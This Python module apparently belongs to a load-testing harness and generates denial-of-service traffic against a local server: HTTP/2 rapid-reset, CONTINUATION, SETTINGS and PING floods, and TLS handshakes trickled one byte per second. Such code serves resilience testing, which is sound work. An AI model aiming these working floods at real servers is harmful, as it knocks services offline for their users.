"""Floods of frames that cost the attacker little, and handshakes that do not end."""

import collections
import socket
import ssl
import struct
import time

import http2
from attackers import PAUSE_SECONDS, Attacker, Crowd, review_head
from connection import unverified_context  # loadtest/load
from http2 import HEADERS, PING, RST_STREAM, SETTINGS, frame

CONTINUATION = 9
# Frames in one write of a flood.
BATCH = 200


def flood(place, connections, until, first, block_of):
    """Sends frames as fast as the server takes them; `block_of` makes a connection's next ones."""
    crowd = Crowd(connections, lambda: Attacker(place), until)
    begun = set()
    for connection in crowd.rounds():
        if connection not in begun:
            begun.add(connection)
            connection.send(first)
        sent = connection.push(b"" if connection.left else block_of(connection))
        crowd.counts["bytes"] += sent
        connection.discard()
        if not sent:
            time.sleep(PAUSE_SECONDS)
    return crowd.counts


def rapid_reset(place, connections, until):
    """Streams that are reset at once."""
    reset = struct.pack(">I", http2.CANCEL)
    return flood(place, connections, until, b"", lambda connection: b"".join(
        review_head(stream) + frame(RST_STREAM, 0, stream, reset)
        for stream in connection.begin(BATCH)))


def continuations(place, connections, until):
    """A header block without an end."""
    first = frame(HEADERS, 0, 1, b"")
    block = frame(CONTINUATION, 0, 1, b"\0\1a\1b") * BATCH
    return flood(place, connections, until, first, lambda _: block)


def settings(place, connections, until):
    """SETTINGS, each of which the server must acknowledge."""
    block = frame(SETTINGS, 0, 0, b"") * BATCH
    return flood(place, connections, until, b"", lambda _: block)


def pings(place, connections, until):
    """PING, each of which the server must answer."""
    block = frame(PING, 0, 0, b"attacker") * BATCH
    return flood(place, connections, until, b"", lambda _: block)


def half_handshakes(place, connections, until):
    """Handshakes that send their first message at one byte per second."""
    hello, counts, sockets = client_hello(), collections.Counter(), {}
    while time.monotonic() < until:
        while len(sockets) < connections and time.monotonic() < until:
            try:
                sockets[socket.create_connection(("127.0.0.1", place.port()), 1)] = 0
                counts["handshakes"] += 1
            except OSError:
                counts["connections refused"] += 1
                time.sleep(PAUSE_SECONDS)
        begin = time.monotonic()
        for half, sent in list(sockets.items()):
            try:
                half.send(hello[sent:sent + 1])
                sockets[half] += 1
            except OSError:
                half.close()
                del sockets[half]
                counts["closed"] += 1
        time.sleep(max(0, min(until, begin + 1) - time.monotonic()))
    return counts


def client_hello():
    """The first message of a handshake, as OpenSSL writes it."""
    context, sent = unverified_context(), ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return sent.read()
